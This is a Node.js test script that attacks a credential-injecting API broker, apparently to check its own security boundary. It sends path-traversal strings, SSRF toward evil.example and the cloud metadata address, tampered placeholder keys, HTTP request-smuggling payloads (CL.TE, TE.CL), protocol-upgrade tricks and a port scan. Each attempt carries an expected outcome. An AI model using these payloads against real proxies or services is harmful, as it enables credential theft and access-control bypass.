// Asks the broker for what it must not do, from where the agent is. Each attempt is a request that the agent could make,
// bent in one place; the request itself goes first, as the attempt's control.
//
// Usage: attack.mjs BROKER:PORT < summary.json; prints one line of JSON an attempt.
import net from "node:net";
import { readFileSync } from "node:fs";

const [host, port] = process.argv[2].split(":");
const summary = JSON.parse(readFileSync(0, "utf8"));
const route = (provider) => summary.routes.find((one) => one.provider === provider);
const placeholder = route("groq").placeholder;
const foreign = placeholder.replace(/.$/, (last) => (last === "0" ? "1" : "0"));

const JSON_BODY = '{"model":"m","stream":true,"messages":[]}';

/** The request that the agent makes of a provider. */
function legit(provider) {
	const forms = {
		anthropic: ["/anthropic/api.anthropic.com/v1/messages", ["x-api-key", placeholder]],
		openai: ["/openai/api.openai.com/v1/responses", ["authorization", `Bearer ${placeholder}`]],
		groq: ["/groq/api.groq.com/openai/v1/chat/completions", ["authorization", `Bearer ${placeholder}`]],
		google: ["/google/generativelanguage.googleapis.com/v1beta/models/g:streamGenerateContent?alt=sse", ["x-goog-api-key", placeholder]],
		bedrock: ["/amazon-bedrock/bedrock-runtime.eu-central-1.amazonaws.com/model/eu.x%3A0/converse-stream", ["authorization", `Bearer ${placeholder}`]],
		codex: ["/openai-codex/chatgpt.com/backend-api/codex/responses", ["authorization", `Bearer ${route("openai-codex").placeholder}`]],
		corp: [`/${route("corp").name}/llm.corp.example/v1/chat/completions`, ["authorization", `Bearer ${placeholder}`]],
	};
	const [path, key] = forms[provider];
	return { method: "POST", path, key, headers: [["host", `${host}:${port}`], ["content-type", "application/json"]], body: JSON_BODY };
}

function text({ method, path, key, headers, body }, tag) {
	const all = [...headers, ...(key ? [key] : []), ["x-attempt", tag], ["connection", "close"], ["content-length", Buffer.byteLength(body)]];
	return `${method} ${path} HTTP/1.1\r\n${all.map(([name, value]) => `${name}: ${value}\r\n`).join("")}\r\n${body}`;
}

const attempts = [];
/** A request with something else in it. */
const bend = (name, provider, change, expect = "refused") =>
	attempts.push({ name, provider, expect, make: (tag) => text({ ...legit(provider), ...change(legit(provider)) }, tag) });
/** A request whose very bytes are someone's own. */
const raw = (name, provider, make, expect = "refused") => attempts.push({ name, provider, expect, make: (tag) => make(legit(provider), tag) });

const tail = (from, to) => (it) => ({ path: it.path.replace(from, to) });
const added = (...headers) => (it) => ({ headers: [...it.headers, ...headers] });

// Paths.
for (const path of [
	"/v1/files", "/v1/messages/batches", "/v1/models", "/v1/complete", "/v1/messages/", "/v1/messages/../files", "/v1/messages/%2e%2e/files",
	"/v1/messages/%2E%2e/files", "/v1/messages/.%2e/files", "/v1/messages/%252e%252e/files", "/v1//files", "/v1/./messages", "//v1/messages",
	"/v1/messages/..%2ffiles", "/v1/messages/..%5cfiles", "/v1/messages\\..\\files", "/v1/messages;x=1", "/v1/messages;/../files",
	"/v1/messages?beta=true&x=1", "/v1/messages?", "/v1/messages?/../files", "/v1/messages#x", "/V1/messages", "/v1/Messages", "/v1/messages%00",
	"/v1/message%73", "/v1%2fmessages", "/v1/messages%20", "/v1/messages%0d%0aGET%20/v1/files", "/v1/messages/%c0%ae%c0%ae/files", "/../../v1/files",
	"/v1/messages/count_tokens/../../files", `/v1/${"a".repeat(20000)}`, "/v1/oauth/token", "", "/",
]) bend(`path ${path.slice(0, 40)}`, "anthropic", tail("/v1/messages", path));
raw("path with a raw line feed", "anthropic", (it, tag) => text({ ...it, path: `${it.path}\n/../files` }, tag));
raw("path with a raw tab", "anthropic", (it, tag) => text({ ...it, path: `${it.path}\t/../files` }, tag));
raw("path with a raw blank", "anthropic", (it, tag) => text({ ...it, path: `${it.path} /v1/files` }, tag));
bend("a file by Google's upload", "google", tail("/v1beta/models/g:streamGenerateContent", "/upload/v1beta/files"));
bend("a batch at Google", "google", tail(":streamGenerateContent?alt=sse", ":batchGenerateContent"));
bend("a key of one's own in the query", "google", tail("?alt=sse", "?alt=sse&key=AIzaOwn"));
bend("a key of one's own before it", "google", tail("?alt=sse", "?key=AIzaOwn&alt=sse"));
bend("a model with slashes", "google", tail("models/g:", "models/../files/g:"));
bend("a model with encoded slashes", "google", tail("models/g:", "models/g%2f..%2ffiles:"));
bend("another operation of Bedrock's", "bedrock", tail("/converse-stream", "/invoke"));
bend("a model of Bedrock's that climbs", "bedrock", tail("eu.x%3A0", "eu.x%2F..%2F.."));
bend("a model of Bedrock's that climbs, encoded", "bedrock", tail("eu.x%3A0", "eu.x%2F%2E%2E%2F"));
bend("another service at ChatGPT", "codex", tail("/codex/responses", "/conversation"));
bend("files at OpenAI", "openai", tail("/responses", "/files"));
bend("a stored answer at OpenAI", "openai", (it) => ({ method: "GET", path: `${it.path}/resp_1` }));

// Hosts and routes.
bend("a host without a key", "anthropic", tail("api.anthropic.com", "evil.example"));
bend("a host below", "anthropic", tail("api.anthropic.com", "x.api.anthropic.com"));
bend("a host above", "anthropic", tail("api.anthropic.com", "api.anthropic.com.evil.example"));
bend("another port", "anthropic", tail("api.anthropic.com", "api.anthropic.com:8443"));
bend("the port itself", "anthropic", tail("api.anthropic.com", "api.anthropic.com:443"));
bend("upper case", "anthropic", tail("api.anthropic.com", "API.anthropic.com"));
bend("a user before the host", "anthropic", tail("api.anthropic.com", "x@api.anthropic.com"));
bend("one route's key for another's host", "anthropic", tail("/anthropic/", "/openai/"));
bend("the machine's own metadata", "corp", tail("llm.corp.example", "169.254.169.254"));
bend("loopback", "corp", tail("llm.corp.example", "127.0.0.1"));
bend("a route that is none", "anthropic", tail("/anthropic/", "/none/"));
raw("absolute form, the provider's", "anthropic", (it, tag) => text({ ...it, path: "https://api.anthropic.com/v1/files" }, tag));
raw("absolute form, the route's", "anthropic", (it, tag) => text({ ...it, path: `http://evil.example${it.path}` }, tag));
raw("a tunnel", "anthropic", (_, tag) => `CONNECT api.anthropic.com:443 HTTP/1.1\r\nhost: api.anthropic.com:443\r\nx-attempt: ${tag}\r\n\r\n`);
raw("a star", "anthropic", (it, tag) => text({ ...it, method: "OPTIONS", path: "*" }, tag));
bend("another Host", "anthropic", (it) => ({ headers: [["host", "evil.example"]] }), "harmless");
bend("two Hosts", "anthropic", (it) => ({ headers: [["host", "evil.example"], ["host", "api.anthropic.com"]] }), "harmless");
bend("hosts and paths in other headers", "anthropic", added(["x-forwarded-host", "evil.example"], ["x-original-url", "/v1/files"], ["x-rewrite-url", "/v1/files"]), "harmless");

// Methods.
for (const method of ["GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "post", "PROPFIND", "POSTX"]) bend(`method ${method}`, "anthropic", () => ({ method }));
bend("a method in a header", "anthropic", added(["x-http-method-override", "DELETE"]), "harmless");

// Placeholders.
bend("no placeholder", "anthropic", () => ({ key: undefined }));
bend("an empty one", "anthropic", () => ({ key: ["x-api-key", ""] }));
bend("another session's", "anthropic", () => ({ key: ["x-api-key", foreign] }));
bend("a part of it", "anthropic", () => ({ key: ["x-api-key", placeholder.slice(0, -1)] }));
bend("more than it", "anthropic", () => ({ key: ["x-api-key", `${placeholder}x`] }));
bend("it and another", "anthropic", () => ({ key: ["x-api-key", `${placeholder}, sk-own`] }));
bend("it in upper case", "anthropic", () => ({ key: ["x-api-key", placeholder.toUpperCase()] }));
bend("a key of one's own", "anthropic", () => ({ key: ["x-api-key", "sk-ant-own"] }));
bend("it where this provider takes none", "anthropic", () => ({ key: ["x-goog-api-key", placeholder] }));
bend("it in a cookie", "anthropic", () => ({ key: ["cookie", `x-api-key=${placeholder}`] }));
bend("it in the query", "anthropic", (it) => ({ key: undefined, path: `${it.path}?x-api-key=${placeholder}` }));
bend("another scheme", "openai", () => ({ key: ["authorization", `Basic ${placeholder}`] }));
bend("another route's", "anthropic", () => ({ key: ["x-api-key", route("openai-codex").placeholder] }));
bend("a name with a blank before the colon", "anthropic", () => ({ key: ["x-api-key ", placeholder] }));
bend("a name with an underscore", "anthropic", () => ({ key: ["x_api_key", placeholder] }));
bend("a key of one's own besides", "anthropic", added(["x-api-key", "sk-ant-own"]), "harmless");
bend("a key of one's own in another carrier", "anthropic", added(["authorization", "Bearer sk-ant-own"], ["cookie", "sk-ant-own"], ["proxy-authorization", "sk-ant-own"]), "harmless");
bend("another account at ChatGPT", "codex", added(["chatgpt-account-id", "own-account"]), "harmless");
bend("a header's placeholder in another header", "corp", added(["x-other", `${placeholder}-0`]), "harmless");
bend("a header's placeholder at another provider", "groq", added(["x-team", `${placeholder}-0`]), "harmless");

// Smuggling.
const second = (it, tag) => text({ ...it, path: it.path.replace("/v1/messages", "/v1/files") }, tag);
const head = (it, tag, extra) => `POST ${it.path} HTTP/1.1\r\nhost: x\r\n${it.key.join(": ")}\r\nx-attempt: ${tag}\r\n${extra}\r\n`;
raw("CL.TE", "anthropic", (it, tag) => `${head(it, tag, "content-length: 6\r\ntransfer-encoding: chunked\r\n")}0\r\n\r\n${second(it, tag)}`);
raw("TE.CL", "anthropic", (it, tag) => `${head(it, tag, "transfer-encoding: chunked\r\ncontent-length: 4\r\n")}5c\r\n${second(it, tag)}\r\n0\r\n\r\n`);
raw("chunks", "anthropic", (it, tag) => `${head(it, tag, "transfer-encoding: chunked\r\n")}2\r\n{}\r\n0\r\n\r\n`);
raw("chunks, misspelt", "anthropic", (it, tag) => `${head(it, tag, "transfer-encoding: xchunked\r\ncontent-length: 2\r\n")}{}`);
raw("chunks, with a blank before the colon", "anthropic", (it, tag) => `${head(it, tag, "transfer-encoding : chunked\r\ncontent-length: 2\r\n")}{}`);
raw("chunks, folded", "anthropic", (it, tag) => `${head(it, tag, "transfer-encoding:\r\n chunked\r\ncontent-length: 2\r\n")}{}`);
raw("two lengths", "anthropic", (it, tag) => `${head(it, tag, "content-length: 2\r\ncontent-length: 200\r\n")}{}${second(it, tag)}`);
raw("a length with a sign", "anthropic", (it, tag) => `${head(it, tag, "content-length: +2\r\n")}{}`);
raw("a negative length", "anthropic", (it, tag) => `${head(it, tag, "content-length: -1\r\n")}{}`);
raw("a list of lengths", "anthropic", (it, tag) => `${head(it, tag, "content-length: 2, 2\r\nx: y\r\ncontent-length: 9\r\n")}{}`);
raw("bare line feeds", "anthropic", (it, tag) => head(it, tag, "content-length: 2\r\nx: y\r\r\ntransfer-encoding: chunked\r\n").replaceAll("\r\n", "\n") + "{}");
raw("a zero byte in a header", "anthropic", (it, tag) => `${head(it, tag, "content-length: 2\r\nx: a\0b\r\n")}{}`);
raw("a carriage return in a header", "anthropic", (it, tag) => `${head(it, tag, "content-length: 2\r\nx: a\rx-http-method: GET\r\n")}{}`);
raw("a name that is none", "anthropic", (it, tag) => `${head(it, tag, "content-length: 2\r\n: a\r\n")}{}`);
raw("a second request in a pipe", "anthropic", (it, tag) => `${head(it, `${tag}-first`, "content-length: 2\r\n")}{}${second(it, tag)}`);
raw("a second request behind a length of zero", "anthropic", (it, tag) => `${head(it, `${tag}-first`, "content-length: 0\r\n")}${second(it, tag)}`);
raw("HTTP/1.0", "anthropic", (it, tag) => text(it, tag).replace("HTTP/1.1", "HTTP/1.0").replace("/v1/messages", "/v1/files"));
raw("HTTP/0.9", "anthropic", (it) => `GET ${it.path}\r\n`);
raw("HTTP/2.0", "anthropic", (it, tag) => text(it, tag).replace("HTTP/1.1", "HTTP/2.0"), "harmless");
bend("headers without end", "anthropic", added(...Array.from({ length: 200 }, (_, at) => [`x-${at}`, "y"])));
bend("a header without end", "anthropic", added(["x-long", "y".repeat(60000)]));
raw("a body without end", "anthropic", (it, tag) => head(it, tag, "content-length: 99999999999\r\n"));

// Other protocols.
raw("HTTP/2 by prior knowledge", "anthropic", () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0");
const upgrading = (protocol) => (it, tag) =>
	text(it, tag).replace("connection: close", `connection: upgrade, http2-settings\r\nupgrade: ${protocol}\r\nhttp2-settings: AAMAAABkAARAAAAAAAIAAAAA`);
raw("HTTP/2 by upgrade", "anthropic", upgrading("h2c"), "harmless");
raw("HTTP/2 by upgrade at ChatGPT", "codex", upgrading("h2c"), "harmless");
raw("TLS by upgrade", "anthropic", upgrading("tls/1.0"), "harmless");
raw("a websocket by POST", "anthropic", upgrading("websocket"), "harmless");
raw("a websocket by POST at ChatGPT", "codex", upgrading("websocket"), "harmless");
raw("a websocket where there is none", "anthropic", (it, tag) => socket(it, tag, it.path, "websocket"));
raw("a websocket elsewhere at ChatGPT", "codex", (it, tag) => socket(it, tag, it.path.replace("/codex/responses", "/conversation"), "websocket"));
raw("another protocol at ChatGPT", "codex", (it, tag) => socket(it, tag, it.path, "tls/1.0"));
raw("two protocols at ChatGPT", "codex", (it, tag) => socket(it, tag, it.path, "h2c, websocket"), "harmless");
raw("another two protocols at ChatGPT", "codex", (it, tag) => socket(it, tag, it.path, "tls/1.0, websocket"));
raw("TLS", "anthropic", () => "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03");
raw("the PROXY protocol", "anthropic", (it, tag) => `PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n${text(it, tag)}`);
raw("the admin's language", "anthropic", () => "show map /run/keys/keys.map\n");

function socket(it, tag, path, protocol) {
	return `GET ${path} HTTP/1.1\r\nhost: x\r\n${it.key.join(": ")}\r\nx-attempt: ${tag}\r\nconnection: upgrade\r\nupgrade: ${protocol}\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\nsec-websocket-version: 13\r\n\r\n`;
}

/** What comes back within a moment, as text. */
function ask(bytes) {
	return new Promise((done) => {
		const chunks = [];
		const connection = net.connect(Number(port), host, () => connection.write(Buffer.from(bytes, "latin1")));
		connection.setTimeout(700, () => connection.destroy());
		connection.on("data", (data) => chunks.push(data));
		connection.on("error", () => {});
		connection.on("close", () => done(Buffer.concat(chunks).toString("latin1")));
	});
}

for (const [at, { name, provider, expect, make }] of attempts.entries()) {
	const control = await ask(text(legit(provider), `control-${at}`));
	const answer = await ask(make(`attempt-${at}`));
	const statuses = [...answer.matchAll(/^HTTP\/1\.[01] (\d+)/gm)].map((found) => Number(found[1]));
	process.stdout.write(`${JSON.stringify({ at, name, provider, expect, control: control.slice(9, 12), statuses, said: answer.slice(-120) })}\n`);
}
for (const other of [22, 80, 443, 8404, 8441, 9999]) {
	const open = await new Promise((done) => {
		const connection = net.connect(other, host, () => { connection.destroy(); done(true); });
		connection.setTimeout(500, () => { connection.destroy(); done(false); });
		connection.on("error", () => done(false));
	});
	process.stdout.write(`${JSON.stringify({ port: other, open })}\n`);
}
